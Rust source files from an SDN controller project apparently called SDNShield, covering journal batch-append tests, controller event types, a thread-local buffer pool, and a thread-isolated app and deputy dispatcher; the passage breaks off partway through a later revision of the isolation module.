    #[test]
    fn batch_append_is_byte_identical_to_serial_appends() {
        let serial_path = tmp("batch-serial");
        let batch_path = tmp("batch-batch");
        {
            let serial = Journal::open(&serial_path).unwrap();
            for i in 1..=3 {
                serial.append(i, i * 7, cmd(i));
            }
            let batch = Journal::open(&batch_path).unwrap();
            batch.append_batch((1..=3).map(|i| (i, i * 7, cmd(i))).collect());
            assert_eq!(batch.len(), 3);
            assert_eq!(batch.last_seq(), 3);
        }
        // One group append must leave the exact bytes N serial appends
        // leave: recovery and warm standbys cannot tell them apart.
        let serial_bytes = std::fs::read(&serial_path).unwrap();
        let batch_bytes = std::fs::read(&batch_path).unwrap();
        assert_eq!(serial_bytes, batch_bytes, "frame-for-frame identical");

        // And the reopened batch file replays the same records.
        let reopened = Journal::open(&batch_path).unwrap();
        let records = reopened.records_since(0);
        assert_eq!(records.len(), 3);
        for (i, r) in records.iter().enumerate() {
            assert_eq!(r.seq, i as u64 + 1);
            assert_eq!(r.audit_seq_after, (i as u64 + 1) * 7);
        }
        std::fs::remove_file(&serial_path).unwrap();
        std::fs::remove_file(&batch_path).unwrap();
    }

    #[test]
    fn batch_append_with_armed_tear_degrades_per_record() {
        let path = tmp("batch-torn");
        let prefix_len;
        {
            let j = Journal::open(&path).unwrap();
            j.append(1, 1, cmd(1));
            // Every AdvanceClock record has the same frame length, so the
            // file length after one append doubles as the frame size.
            prefix_len = std::fs::metadata(&path).unwrap().len();
            let frame_len = prefix_len;
            // Tear inside the SECOND record of the group: the batch path
            // must fall back to per-record framing so the tear lands at
            // the same byte offset a serial append would produce.
            j.arm_faults(JournalFaults {
                torn_write_at_byte: Some(prefix_len + frame_len + frame_len / 2),
                ..JournalFaults::default()
            });
            j.append_batch(vec![(2, 2, cmd(2)), (3, 3, cmd(3)), (4, 4, cmd(4))]);
            // The journal died at the tear; the batch suffix was dropped.
            assert!(j.is_dead());
            assert_eq!(
                j.last_seq(),
                2,
                "record before the torn one survives in memory"
            );
        }
        let reopened = Journal::open(&path).unwrap();
        // Recovery truncates the torn tail: only the pre-batch record and
        // the first (fully written) group record remain.
        assert_eq!(reopened.last_seq(), 2);
        assert!(std::fs::metadata(&path).unwrap().len() > prefix_len);
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn batch_append_to_dead_or_empty_is_a_noop() {
        let j = Journal::in_memory();
        j.append_batch(Vec::new());
        assert!(j.is_empty());
        j.append_batch(vec![(1, 1, cmd(1)), (2, 2, cmd(2))]);
        assert_eq!(j.len(), 2);
        j.arm_faults(JournalFaults {
            crash_before_append_on_record: Some(3),
            ..JournalFaults::default()
        });
        j.append_batch(vec![(3, 3, cmd(3)), (4, 4, cmd(4))]);
        assert!(j.is_dead());
        assert_eq!(j.last_seq(), 2);
        // Dead journals swallow batches silently, same as append().
        j.append_batch(vec![(5, 5, cmd(5))]);
        assert_eq!(j.last_seq(), 2);
    }
}
