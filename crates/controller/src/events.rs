//! Controller events delivered to subscribed apps.

use std::fmt;

use bytes::Bytes;
use sdnshield_core::api::EventKind;
use sdnshield_openflow::messages::{FlowRemoved, PacketIn};
use sdnshield_openflow::types::DatapathId;

/// An event delivered to an app's `on_event` callback.
#[derive(Debug, Clone, PartialEq)]
pub enum Event {
    /// A packet punted to the controller.
    ///
    /// The payload is stripped (empty) for apps lacking the `read_payload`
    /// permission — the event token (`pkt_in_event`) and payload access
    /// (`read_payload`) are separate privileges (paper Table II).
    PacketIn {
        /// The switch that punted.
        dpid: DatapathId,
        /// The packet-in body (payload possibly stripped).
        packet_in: PacketIn,
    },
    /// A flow entry expired or was deleted.
    FlowRemoved {
        /// The switch.
        dpid: DatapathId,
        /// The notification body.
        flow_removed: FlowRemoved,
    },
    /// The topology changed (switch/link up/down).
    TopologyChanged {
        /// Human-readable description.
        description: String,
    },
    /// An asynchronous error.
    Error {
        /// Description.
        message: String,
    },
    /// An application-defined event published through the kernel (used by
    /// service apps such as the ALTO cost service).
    Custom {
        /// Topic name; subscribers filter on it.
        topic: String,
        /// Opaque payload.
        data: Bytes,
    },
}

impl Event {
    /// The subscription kind this event belongs to.
    ///
    /// `Custom` events ride the error/notification channel kind-wise; they
    /// are delivered to apps subscribed to the topic (see the kernel's
    /// custom-topic subscriptions).
    pub fn kind(&self) -> Option<EventKind> {
        match self {
            Event::PacketIn { .. } => Some(EventKind::PacketIn),
            Event::FlowRemoved { .. } => Some(EventKind::Flow),
            Event::TopologyChanged { .. } => Some(EventKind::Topology),
            Event::Error { .. } => Some(EventKind::Error),
            Event::Custom { .. } => None,
        }
    }

    /// A copy of this event with the packet-in payload removed — the shared
    /// view delivered to subscribers lacking `read_payload`. Non-packet-in
    /// events are returned unchanged (a cheap clone; `Bytes` payloads are
    /// reference-counted).
    pub fn with_stripped_payload(&self) -> Event {
        match self {
            Event::PacketIn { dpid, packet_in } => {
                let mut pi = packet_in.clone();
                pi.payload = Bytes::new();
                Event::PacketIn {
                    dpid: *dpid,
                    packet_in: pi,
                }
            }
            other => other.clone(),
        }
    }

    /// Short name for logs.
    pub fn name(&self) -> &'static str {
        match self {
            Event::PacketIn { .. } => "packet_in",
            Event::FlowRemoved { .. } => "flow_removed",
            Event::TopologyChanged { .. } => "topology_changed",
            Event::Error { .. } => "error",
            Event::Custom { .. } => "custom",
        }
    }
}

impl fmt::Display for Event {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Event::PacketIn { dpid, .. } => write!(f, "packet_in@{dpid}"),
            Event::FlowRemoved { dpid, .. } => write!(f, "flow_removed@{dpid}"),
            Event::TopologyChanged { description } => write!(f, "topology_changed: {description}"),
            Event::Error { message } => write!(f, "error: {message}"),
            Event::Custom { topic, .. } => write!(f, "custom:{topic}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_openflow::messages::PacketInReason;
    use sdnshield_openflow::types::{BufferId, PortNo};

    #[test]
    fn kinds_and_names() {
        let pi = Event::PacketIn {
            dpid: DatapathId(1),
            packet_in: PacketIn {
                buffer_id: BufferId::NO_BUFFER,
                in_port: PortNo(1),
                reason: PacketInReason::NoMatch,
                payload: Bytes::new(),
            },
        };
        assert_eq!(pi.kind(), Some(EventKind::PacketIn));
        assert_eq!(pi.name(), "packet_in");
        let custom = Event::Custom {
            topic: "alto".into(),
            data: Bytes::new(),
        };
        assert_eq!(custom.kind(), None);
        assert_eq!(custom.to_string(), "custom:alto");
    }
}
