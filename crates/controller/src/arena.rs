//! Burst-scoped buffer reuse for the delivery hot paths (DESIGN.md §13).
//!
//! The vectored event dispatcher allocates one `Vec<Arc<Event>>` per
//! receiving app per batch, the deputies one request deque per burst, the
//! app threads one event batch per wake-up. Every one of these buffers is
//! small (bounded by the batch caps), lives exactly as long as the burst
//! that allocated it, and is then thrown away — the textbook arena shape.
//!
//! This module keeps the per-thread buffers alive between bursts instead:
//! [`lease_event_batch`] hands out an empty `Vec` with whatever capacity
//! its previous life grew, and [`recycle_event_batch`] clears it (dropping
//! the `Arc`s, not the allocation) and parks it in a thread-local pool.
//! The pool is bounded, so a burst that fans out to an unusual number of
//! apps does not pin that high-water mark forever. Buffers whose lifetime
//! is naturally confined to one loop (the deputy's burst deque, the app
//! thread's batch) are simply hoisted out of the loop by their owners and
//! reset per burst — same effect, no pool needed.

use std::cell::RefCell;
use std::sync::Arc;

use crate::events::Event;

/// Buffers retained per thread; leases beyond this allocate fresh and the
/// excess is dropped on recycle.
const POOL_MAX: usize = 32;

struct Pool<T: 'static> {
    free: RefCell<Vec<Vec<T>>>,
}

impl<T> Pool<T> {
    const fn new() -> Self {
        Pool {
            free: RefCell::new(Vec::new()),
        }
    }

    fn lease(&self) -> Vec<T> {
        self.free.borrow_mut().pop().unwrap_or_default()
    }

    fn recycle(&self, mut buf: Vec<T>) {
        buf.clear();
        let mut free = self.free.borrow_mut();
        if free.len() < POOL_MAX {
            free.push(buf);
        }
    }
}

thread_local! {
    static EVENT_BATCHES: Pool<Arc<Event>> = const { Pool::new() };
}

/// Leases an empty per-app event batch from this thread's pool.
pub(crate) fn lease_event_batch() -> Vec<Arc<Event>> {
    EVENT_BATCHES.with(|p| p.lease())
}

/// Clears `buf` and returns it to this thread's pool for the next burst.
pub(crate) fn recycle_event_batch(buf: Vec<Arc<Event>>) {
    EVENT_BATCHES.with(|p| p.recycle(buf))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recycled_capacity_is_reused() {
        let mut batch = lease_event_batch();
        for _ in 0..100 {
            batch.push(Arc::new(Event::TopologyChanged {
                description: "x".into(),
            }));
        }
        let grown = batch.capacity();
        recycle_event_batch(batch);
        let again = lease_event_batch();
        assert!(again.is_empty());
        assert!(
            again.capacity() >= grown,
            "lease must hand back the grown allocation"
        );
    }

    #[test]
    fn pool_is_bounded() {
        // Recycle far more buffers than the pool retains; nothing panics
        // and later leases still work.
        let batches: Vec<_> = (0..POOL_MAX * 2).map(|_| lease_event_batch()).collect();
        for b in batches {
            recycle_event_batch(b);
        }
        let b = lease_event_batch();
        assert!(b.is_empty());
    }
}
