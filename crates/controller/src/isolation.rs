//! The SDNShield thread-based isolation architecture (paper §VI-A).
//!
//! * every app runs on its own unprivileged OS thread;
//! * all app↔kernel communication crosses typed crossbeam channels —
//!   the only references an app holds are its [`AppCtx`] handle and the
//!   events it is delivered (data isolation);
//! * a pool of privileged *Kernel Service Deputy* threads drains the call
//!   queue, permission-checks each call and executes it on the app's behalf
//!   (the choke point is a queue, not a serialization point: deputies run in
//!   parallel, matching the paper's "multiple instances of KSDs can run in
//!   parallel to offload the API requests from apps").

use std::collections::HashMap;
use std::sync::atomic::{AtomicU16, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;

use crossbeam::channel::{bounded, unbounded, Receiver, Sender};
use parking_lot::Mutex;

use sdnshield_core::api::AppId;
use sdnshield_core::perm::PermissionSet;
use sdnshield_core::token::PermissionToken;
use sdnshield_netsim::network::Network;
use sdnshield_openflow::messages::PacketIn;
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::DatapathId;

use crate::api::DeputyRequest;
use crate::app::{App, AppCtx, CallRoute};
use crate::events::Event;
use crate::kernel::{Kernel, OutboundEvent};

/// Message types delivered to an app thread.
enum AppMsg {
    /// An event, optionally acknowledged after `on_event` returns.
    Event(Event, Option<Sender<()>>),
    /// Terminate the app thread.
    Stop,
}

struct AppHandle {
    name: String,
    tx: Sender<AppMsg>,
    thread: Option<JoinHandle<()>>,
}

/// Routes events to subscribed app threads.
pub(crate) struct Dispatcher {
    apps: Mutex<HashMap<AppId, AppHandle>>,
    /// Outstanding work items: undelivered app events plus unfinished deputy
    /// requests. Zero ⇒ the controller is quiescent.
    inflight: Arc<AtomicUsize>,
}

impl Dispatcher {
    fn new(inflight: Arc<AtomicUsize>) -> Self {
        Dispatcher {
            apps: Mutex::new(HashMap::new()),
            inflight,
        }
    }

    /// Delivers events; when `sync`, blocks until every receiving app's
    /// `on_event` has returned.
    ///
    /// Interceptors (apps whose event-token filter carries
    /// `EVENT_INTERCEPTION`) process each event to completion before
    /// non-interceptors see it; non-interceptors then process concurrently.
    fn dispatch(&self, kernel: &Kernel, events: Vec<OutboundEvent>, sync: bool) {
        for out in events {
            let targets: Vec<(AppId, bool)> = match &out.event {
                Event::Custom { topic, .. } => kernel
                    .topic_subscribers(topic)
                    .into_iter()
                    .map(|a| (a, false))
                    .collect(),
                other => match other.kind() {
                    Some(kind) => kernel.subscribers_phased(kind),
                    None => Vec::new(),
                },
            };
            // Phase 1: interceptors, one at a time, to completion.
            for (target, _) in targets.iter().filter(|(_, i)| *i) {
                if let Some(ack) = self.send_event(kernel, *target, &out.event, true) {
                    let _ = ack.recv();
                }
            }
            // Phase 2: everyone else, concurrently.
            let mut acks = Vec::new();
            for (target, _) in targets.iter().filter(|(_, i)| !*i) {
                if let Some(ack) = self.send_event(kernel, *target, &out.event, sync) {
                    acks.push(ack);
                }
            }
            for ack in acks {
                let _ = ack.recv();
            }
        }
    }

    /// Sends one event view to one app; returns the ack receiver when the
    /// send is acknowledged (`with_ack`).
    fn send_event(
        &self,
        kernel: &Kernel,
        target: AppId,
        event: &Event,
        with_ack: bool,
    ) -> Option<crossbeam::channel::Receiver<()>> {
        let apps = self.apps.lock();
        let handle = apps.get(&target)?;
        let view = kernel.event_view_for(target, event)?;
        self.inflight.fetch_add(1, Ordering::SeqCst);
        if with_ack {
            let (ack_tx, ack_rx) = bounded(1);
            if handle.tx.send(AppMsg::Event(view, Some(ack_tx))).is_ok() {
                Some(ack_rx)
            } else {
                self.inflight.fetch_sub(1, Ordering::SeqCst);
                None
            }
        } else {
            if handle.tx.send(AppMsg::Event(view, None)).is_err() {
                self.inflight.fetch_sub(1, Ordering::SeqCst);
            }
            None
        }
    }
}

/// Errors registering an app.
#[derive(Debug, Clone, PartialEq)]
pub enum RegisterError {
    /// Loading-time check failed: these required tokens are not granted.
    MissingTokens(Vec<PermissionToken>),
    /// The manifest's virtual topology is invalid for this network.
    InvalidManifest(String),
    /// The app panicked inside `on_start`; it was not started.
    StartupPanic,
}

impl std::fmt::Display for RegisterError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            RegisterError::MissingTokens(ts) => {
                write!(f, "app requires ungrated tokens: ")?;
                let mut sep = "";
                for t in ts {
                    write!(f, "{sep}{t}")?;
                    sep = ", ";
                }
                Ok(())
            }
            RegisterError::InvalidManifest(m) => write!(f, "invalid manifest: {m}"),
            RegisterError::StartupPanic => write!(f, "app panicked during on_start"),
        }
    }
}

impl std::error::Error for RegisterError {}

/// The SDNShield-enabled controller: kernel + deputy pool + isolated apps.
///
/// # Examples
///
/// ```
/// use sdnshield_controller::isolation::ShieldedController;
/// use sdnshield_netsim::network::Network;
/// use sdnshield_netsim::topology::builders;
///
/// let controller = ShieldedController::new(Network::new(builders::linear(2), 1024), 2);
/// controller.shutdown();
/// ```
pub struct ShieldedController {
    kernel: Arc<Kernel>,
    call_tx: Sender<DeputyRequest>,
    dispatcher: Arc<Dispatcher>,
    deputies: Mutex<Vec<JoinHandle<()>>>,
    next_app: AtomicU16,
    inflight: Arc<AtomicUsize>,
}

impl ShieldedController {
    /// Builds a controller over a network with `num_deputies` Kernel Service
    /// Deputy threads.
    ///
    /// # Panics
    ///
    /// Panics when `num_deputies == 0`. Note that service apps publishing
    /// synchronous custom events need at least 2 deputies (the publisher's
    /// deputy blocks on subscriber acknowledgment while subscribers issue
    /// their own calls).
    pub fn new(network: Network, num_deputies: usize) -> Self {
        assert!(num_deputies > 0, "need at least one deputy");
        let kernel = Arc::new(Kernel::new(network, true));
        let inflight = Arc::new(AtomicUsize::new(0));
        let dispatcher = Arc::new(Dispatcher::new(Arc::clone(&inflight)));
        let (call_tx, call_rx) = unbounded::<DeputyRequest>();
        let deputies = (0..num_deputies)
            .map(|i| {
                let kernel = Arc::clone(&kernel);
                let dispatcher = Arc::clone(&dispatcher);
                let rx = call_rx.clone();
                let inflight = Arc::clone(&inflight);
                std::thread::Builder::new()
                    .name(format!("ksd-{i}"))
                    .spawn(move || deputy_loop(kernel, dispatcher, rx, inflight))
                    .expect("spawn deputy")
            })
            .collect();
        ShieldedController {
            kernel,
            call_tx,
            dispatcher,
            deputies: Mutex::new(deputies),
            next_app: AtomicU16::new(1),
            inflight,
        }
    }

    /// Blocks until all in-flight events and calls have drained — including
    /// cascades the synchronous delivery calls do not wait for (e.g. the
    /// packet-ins a flooded packet-out generates on downstream switches).
    pub fn quiesce(&self) {
        let mut stable = 0;
        loop {
            if self.inflight.load(Ordering::SeqCst) == 0 {
                stable += 1;
                if stable >= 3 {
                    return;
                }
            } else {
                stable = 0;
            }
            std::thread::yield_now();
        }
    }

    /// The kernel, for inspection (tests, benches, forensics).
    pub fn kernel(&self) -> &Kernel {
        &self.kernel
    }

    /// Registers an app with its (reconciled) permission manifest: compiles
    /// the permission engine, runs the loading-time token check, spawns the
    /// app's unprivileged thread, and runs `on_start` to completion.
    ///
    /// # Errors
    ///
    /// [`RegisterError`] on loading-time failures; the app is not started.
    pub fn register(
        &self,
        app: Box<dyn App>,
        manifest: &PermissionSet,
    ) -> Result<AppId, RegisterError> {
        let id = AppId(self.next_app.fetch_add(1, Ordering::Relaxed));
        let name = app.name().to_owned();
        self.kernel
            .register_app(id, &name, manifest)
            .map_err(|e| RegisterError::InvalidManifest(e.to_string()))?;
        let missing = self.kernel.missing_tokens(id, &app.required_tokens());
        if !missing.is_empty() {
            return Err(RegisterError::MissingTokens(missing));
        }
        let ctx = AppCtx::new(
            id,
            CallRoute::Deputy {
                tx: self.call_tx.clone(),
                inflight: Arc::clone(&self.inflight),
            },
        );
        let (tx, rx) = unbounded::<AppMsg>();
        let (ready_tx, ready_rx) = bounded(1);
        let thread_name = format!("app-{}-{name}", id.0);
        let inflight = Arc::clone(&self.inflight);
        let thread = std::thread::Builder::new()
            .name(thread_name)
            .spawn(move || app_loop(app, ctx, rx, ready_tx, inflight))
            .expect("spawn app thread");
        self.dispatcher.apps.lock().insert(
            id,
            AppHandle {
                name,
                tx,
                thread: Some(thread),
            },
        );
        // Wait for on_start so subscriptions exist before events flow.
        if !ready_rx.recv().unwrap_or(false) {
            self.dispatcher.apps.lock().remove(&id);
            return Err(RegisterError::StartupPanic);
        }
        Ok(id)
    }

    /// The registered name of an app.
    pub fn app_name(&self, app: AppId) -> Option<String> {
        self.dispatcher
            .apps
            .lock()
            .get(&app)
            .map(|h| h.name.clone())
    }

    /// Delivers a packet-in to subscribed apps, blocking until every app has
    /// processed it (the measurement boundary for the paper's latency
    /// experiments).
    pub fn deliver_packet_in(&self, dpid: DatapathId, packet_in: PacketIn) {
        let events = self.kernel.feed_packet_in(dpid, packet_in);
        self.dispatcher.dispatch(&self.kernel, events, true);
    }

    /// Delivers a packet-in without waiting for app processing — the
    /// pipelined pressure-test mode (paper Fig 7: CBench keeps many
    /// packet-ins outstanding). Pair with [`ShieldedController::quiesce`].
    pub fn deliver_packet_in_nowait(&self, dpid: DatapathId, packet_in: PacketIn) {
        let events = self.kernel.feed_packet_in(dpid, packet_in);
        self.dispatcher.dispatch(&self.kernel, events, false);
    }

    /// Injects a data-plane frame from a host and synchronously processes
    /// the resulting packet-ins.
    pub fn inject_host_frame(&self, frame: EthernetFrame) {
        let events = self.kernel.inject_host_frame(frame);
        self.dispatcher.dispatch(&self.kernel, events, true);
    }

    /// Publishes a custom event from outside the app layer (test drivers:
    /// e.g. simulating an inbound web request waking an app), blocking until
    /// subscribers have processed it.
    pub fn publish_topic(&self, topic: &str, data: bytes::Bytes) {
        let events = vec![crate::kernel::OutboundEvent {
            event: Event::Custom {
                topic: topic.to_owned(),
                data,
            },
        }];
        self.dispatcher.dispatch(&self.kernel, events, true);
    }

    /// Fails a physical link and synchronously notifies topology
    /// subscribers. Returns whether the link existed.
    pub fn fail_link(&self, a: DatapathId, b: DatapathId) -> bool {
        match self.kernel.fail_link(a, b) {
            Some(event) => {
                self.dispatcher.dispatch(&self.kernel, vec![event], true);
                true
            }
            None => false,
        }
    }

    /// Fires a topology-change notification to subscribed apps (the ALTO
    /// scenario driver), blocking until processed.
    pub fn deliver_topology_change(&self, description: &str) {
        let events = vec![crate::kernel::OutboundEvent {
            event: Event::TopologyChanged {
                description: description.to_owned(),
            },
        }];
        self.dispatcher.dispatch(&self.kernel, events, true);
    }

    /// Advances the virtual clock; flow-removed events dispatch
    /// synchronously.
    pub fn advance_clock(&self, secs: u64) {
        let events = self.kernel.advance_clock(secs);
        self.dispatcher.dispatch(&self.kernel, events, true);
    }

    /// Stops all app threads and deputies, waiting for them to exit.
    pub fn shutdown(&self) {
        // Collect join handles first and release the apps lock before
        // joining: a deputy may be waiting on that lock to dispatch a
        // derived event while an app waits on that deputy's reply — joining
        // with the lock held would deadlock the triangle.
        let handles: Vec<JoinHandle<()>> = {
            let mut apps = self.dispatcher.apps.lock();
            apps.iter_mut()
                .filter_map(|(_, handle)| {
                    let _ = handle.tx.send(AppMsg::Stop);
                    handle.thread.take()
                })
                .collect()
        };
        for t in handles {
            let _ = t.join();
        }
        let mut deputies = self.deputies.lock();
        for _ in deputies.iter() {
            let _ = self.call_tx.send(DeputyRequest::Stop);
        }
        for t in deputies.drain(..) {
            let _ = t.join();
        }
    }
}

impl Drop for ShieldedController {
    fn drop(&mut self) {
        self.shutdown();
    }
}

fn app_loop(
    mut app: Box<dyn App>,
    ctx: AppCtx,
    rx: Receiver<AppMsg>,
    ready: Sender<bool>,
    inflight: Arc<AtomicUsize>,
) {
    // Panics inside app code stay inside the app's thread — the isolation
    // property the paper's thread containers provide. A panicking app is
    // terminated; the controller and its peers keep running.
    let started = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        app.on_start(&ctx);
    }))
    .is_ok();
    let _ = ready.send(started);
    if !started {
        return;
    }
    while let Ok(msg) = rx.recv() {
        match msg {
            AppMsg::Event(event, ack) => {
                let survived = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                    app.on_event(&ctx, &event);
                }))
                .is_ok();
                // Always acknowledge and account, even on a crash, so
                // synchronous deliveries and quiesce() never wedge.
                if let Some(ack) = ack {
                    let _ = ack.send(());
                }
                inflight.fetch_sub(1, Ordering::SeqCst);
                if !survived {
                    break;
                }
            }
            AppMsg::Stop => break,
        }
    }
}

fn deputy_loop(
    kernel: Arc<Kernel>,
    dispatcher: Arc<Dispatcher>,
    rx: Receiver<DeputyRequest>,
    inflight: Arc<AtomicUsize>,
) {
    while let Ok(req) = rx.recv() {
        let counted = !matches!(req, DeputyRequest::Stop);
        match req {
            DeputyRequest::Call { call, reply } => {
                let (result, events) = kernel.execute(&call);
                let _ = reply.send(result);
                // Derived events (packet-ins from packet-outs, flow-removed
                // from deletes) dispatch asynchronously: the issuing call
                // must not block on other apps.
                dispatcher.dispatch(&kernel, events, false);
            }
            DeputyRequest::Transaction { app, ops, reply } => {
                let (result, events) = kernel.execute_transaction(app, &ops);
                let _ = reply.send(result);
                dispatcher.dispatch(&kernel, events, false);
            }
            DeputyRequest::HostSend {
                app,
                conn,
                data,
                reply,
            } => {
                let _ = reply.send(kernel.host_send(app, conn, data));
            }
            DeputyRequest::SubscribeTopic { app, topic, reply } => {
                kernel.subscribe_topic(app, &topic);
                let _ = reply.send(Ok(()));
            }
            DeputyRequest::Publish { event, reply } => {
                // Publish is synchronous: subscribers finish processing
                // before the publisher resumes, giving deterministic event
                // chains (requires ≥ 2 deputies, see `new`).
                dispatcher.dispatch(&kernel, vec![OutboundEvent { event }], true);
                let _ = reply.send(Ok(()));
            }
            DeputyRequest::Stop => break,
        }
        if counted {
            inflight.fetch_sub(1, Ordering::SeqCst);
        }
    }
}
