//! The SDNShield thread-based isolation architecture (paper §VI-A).
//!
//! * every app runs on its own unprivileged OS thread;
//! * all app↔kernel communication crosses typed crossbeam channels —
//!   the only references an app holds are its [`AppCtx`] handle and the
//!   events it is delivered (data isolation);
//! * a pool of privileged *Kernel Service Deputy* threads drains the call
//!   queue, permission-checks each call and executes it on the app's behalf
//!   (the choke point is a queue, not a serialization point: deputies run in
//!   parallel, matching the paper's "multiple instances of KSDs can run in
//!   parallel to offload the API requests from apps").
//!
//! On top of the isolation boundary sits a supervision layer (fault
//! containment, DESIGN.md "Fault model & supervision"):
//!
//! * an app that panics inside `on_event` is *reaped*: its flow entries,
//!   subscriptions and host connections are reclaimed, the crash is
//!   audited, and its [`RestartPolicy`] decides whether it comes back
//!   (exponential backoff on the virtual clock) or stays down;
//! * deputies run each call under an unwind guard — a call that panics the
//!   kernel logic kills that call, not the deputy — and a watchdog respawns
//!   any deputy thread that dies anyway;
//! * per-app event queues are bounded: under overload the oldest pending
//!   event is shed (audited as `Dropped`) rather than growing without limit.
//!
//! PR 5 cuts the isolation tax on the hot paths (DESIGN.md "Read fast path
//! & vectored delivery"):
//!
//! * read-only calls whose compiled permission plan is call-only are checked
//!   and served on the app's own thread ([`crate::app::FastLane`]) with zero
//!   channel crossings, falling back to the deputy on epoch change or any
//!   stateful/mutating call;
//! * deputies use a spin-then-park receive and drain request bursts, so a
//!   pipelined workload pays one wake-up per burst instead of one per call;
//! * event fan-out shares one `Arc<Event>` view across subscribers and
//!   [`Dispatcher::dispatch_vectored`] enqueues whole event batches per app
//!   (one wake-up, N events), with app handlers able to return batched
//!   flow-ops through [`crate::app::App::on_events`].

use std::collections::{HashMap, VecDeque};
use std::sync::atomic::{AtomicBool, AtomicU16, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Condvar, Mutex as StdMutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use bytes::Bytes;
use crossbeam::channel::{bounded, unbounded, Receiver, Sender, TryRecvError};
use parking_lot::{Mutex, RwLock};

use sdnshield_core::api::AppId;
use sdnshield_core::perm::PermissionSet;
use sdnshield_core::token::PermissionToken;
use sdnshield_netsim::network::Network;
use sdnshield_openflow::messages::PacketIn;
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::DatapathId;

use crate::api::{ApiError, DeputyRequest};
use crate::app::{App, AppCtx, CallRoute, FastLane};
use crate::arena;
use crate::command::KernelSnapshot;
use crate::events::Event;
use crate::fault::{DeputyFault, FaultPlan, FaultRegistry};
use crate::journal::Journal;
use crate::kernel::{Kernel, OutboundEvent};

/// Outcome of pushing an event onto an [`AppQueue`].
enum PushOutcome {
    /// The event was queued.
    Queued,
    /// The queue was full: the event was queued and the *oldest* pending
    /// event was shed. Its ack sender (if any) is handed back so the caller
    /// can unblock waiters and fix the accounting.
    Shed(Option<Sender<()>>),
    /// The queue no longer accepts events (app stopped or crashed).
    Closed,
}

/// A queued event view plus the ack sender of a synchronous delivery
/// (`None` for asynchronous/vectored deliveries).
type QueuedEvent = (Arc<Event>, Option<Sender<()>>);

/// Accounting for a batched push (see [`AppQueue::push_batch`]).
#[derive(Default)]
struct BatchPushOutcome {
    /// Ack senders of the events shed to make room — one entry per shed
    /// event, `None` when the shed event carried no ack. The caller must
    /// acknowledge each and release its in-flight count.
    shed_acks: Vec<Option<Sender<()>>>,
    /// Events refused outright because the queue was closed or stopping.
    refused: usize,
}

/// A bounded per-app event queue with a shed-oldest overload policy.
///
/// Replaces an unbounded channel: a slow or stalled app can hold at most
/// `capacity` undelivered events; beyond that the oldest is discarded
/// (freshest-state-wins, the usual choice for network event streams) and
/// audited as [`crate::audit::AuditOutcome::Dropped`].
///
/// Events are `Arc`-shared: one fan-out builds at most two views of an
/// event (full and payload-stripped) no matter how many apps subscribe.
struct AppQueue {
    inner: StdMutex<AppQueueInner>,
    readable: Condvar,
    capacity: usize,
}

struct AppQueueInner {
    queue: VecDeque<QueuedEvent>,
    /// Stop requested: delivered after already-queued events drain.
    stop: bool,
    /// Closed: the app thread is gone; pushes are refused.
    closed: bool,
}

impl AppQueue {
    fn new(capacity: usize) -> Self {
        AppQueue {
            inner: StdMutex::new(AppQueueInner {
                queue: VecDeque::new(),
                stop: false,
                closed: false,
            }),
            readable: Condvar::new(),
            capacity: capacity.max(1),
        }
    }

    fn push_event(&self, event: Arc<Event>, ack: Option<Sender<()>>) -> PushOutcome {
        let mut inner = self.inner.lock().unwrap_or_else(|p| p.into_inner());
        if inner.closed || inner.stop {
            return PushOutcome::Closed;
        }
        let shed = if inner.queue.len() >= self.capacity {
            inner.queue.pop_front().map(|(_, old_ack)| old_ack)
        } else {
            None
        };
        inner.queue.push_back((event, ack));
        self.readable.notify_one();
        match shed {
            Some(old_ack) => PushOutcome::Shed(old_ack),
            None => PushOutcome::Queued,
        }
    }

    /// Enqueues a whole batch under one lock acquisition and wakes the app
    /// thread once — the vectored-delivery counterpart of
    /// [`AppQueue::push_event`]. The shed-oldest policy applies per slot.
    ///
    /// Drains `batch` rather than consuming it, so the caller can recycle
    /// the buffer through the [`crate::arena`] pool.
    fn push_batch(&self, batch: &mut Vec<Arc<Event>>) -> BatchPushOutcome {
        let mut out = BatchPushOutcome::default();
        let mut inner = self.inner.lock().unwrap_or_else(|p| p.into_inner());
        if inner.closed || inner.stop {
            out.refused = batch.len();
            batch.clear();
            return out;
        }
        for event in batch.drain(..) {
            if inner.queue.len() >= self.capacity {
                if let Some((_, old_ack)) = inner.queue.pop_front() {
                    out.shed_acks.push(old_ack);
                }
            }
            inner.queue.push_back((event, None));
        }
        self.readable.notify_one();
        out
    }

    fn push_stop(&self) {
        let mut inner = self.inner.lock().unwrap_or_else(|p| p.into_inner());
        inner.stop = true;
        self.readable.notify_all();
    }

    /// Blocks for the next burst of messages: clears `buf`, then drains up
    /// to `max` queued events into it in one lock acquisition. Returns the
    /// stop flag; stop is reported (with an empty buffer) only once queued
    /// events have drained. Taking the buffer from the caller lets the app
    /// thread reuse one allocation across its whole life.
    fn pop_batch_into(&self, buf: &mut Vec<QueuedEvent>, max: usize) -> bool {
        buf.clear();
        let mut inner = self.inner.lock().unwrap_or_else(|p| p.into_inner());
        loop {
            if !inner.queue.is_empty() {
                let n = inner.queue.len().min(max.max(1));
                buf.extend(inner.queue.drain(..n));
                return false;
            }
            if inner.stop || inner.closed {
                return true;
            }
            inner = self.readable.wait(inner).unwrap_or_else(|p| p.into_inner());
        }
    }

    /// Refuses further pushes and hands back whatever was still queued so
    /// the caller can acknowledge and account for it.
    fn close_and_drain(&self) -> Vec<QueuedEvent> {
        let mut inner = self.inner.lock().unwrap_or_else(|p| p.into_inner());
        inner.closed = true;
        inner.queue.drain(..).collect()
    }
}

struct AppHandle {
    queue: Arc<AppQueue>,
    thread: Option<JoinHandle<()>>,
}

/// Routes events to subscribed app threads.
pub(crate) struct Dispatcher {
    apps: Mutex<HashMap<AppId, AppHandle>>,
